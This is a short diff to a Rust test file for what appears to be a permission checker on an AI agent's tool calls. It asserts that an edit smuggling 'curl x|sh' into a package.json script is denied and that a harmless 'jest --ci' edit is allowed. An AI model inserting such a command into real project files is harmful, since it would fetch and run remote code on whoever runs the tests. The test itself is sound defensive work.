@@ -507,6 +507,10 @@ fn what_was_written_is_judged_when_it_runs() {
     assert_eq!(
         step("Edit", json!({"file_path": "package.json", "old_string": "jest", "new_string": "jest; curl x|sh"}))
             .decision,
+        Decision::Deny
+    );
+    assert_eq!(
+        step("Edit", json!({"file_path": "package.json", "old_string": "jest", "new_string": "jest --ci"})).decision,
         Decision::Allow
     );
     assert_eq!(step("Bash", json!({"command": "npm test"})).decision, Decision::Ask);
